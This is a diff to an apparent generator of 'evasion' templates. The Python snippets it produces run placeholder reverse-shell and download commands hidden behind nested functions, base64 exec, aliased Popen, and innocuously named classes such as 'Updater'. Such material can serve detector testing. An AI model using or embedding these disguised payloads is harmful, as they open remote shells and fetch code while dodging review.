@@ -746,6 +746,8 @@ def wrapper_evasions(h, p, u):
         f'import os\n\ndef inner(x):\n    os.system(x)\n\ndef outer(y):\n    inner(y)\n\nouter("{rs}")',
         f'import base64\n\ndef unpack(p):\n    return base64.b64decode(p)\n\nexec(unpack("{b64("import os; os.system(" + repr(dl) + ")")}"))',
         f'import subprocess as s\nP = s.Popen\nP("{dl}", shell=True)',
+        f'import os\n\nclass Updater:\n    def fetch(self, cmd):\n        return os.popen(cmd).read()\n\nUpdater().fetch("{dl}")',
+        f'import subprocess\n\nclass Job:\n    def __init__(self, cmd):\n        self.start(cmd)\n\n    def start(self, cmd):\n        subprocess.Popen(cmd, shell=True)\n\nJob("{rs}")',
     ]
 
 for v in range(3):
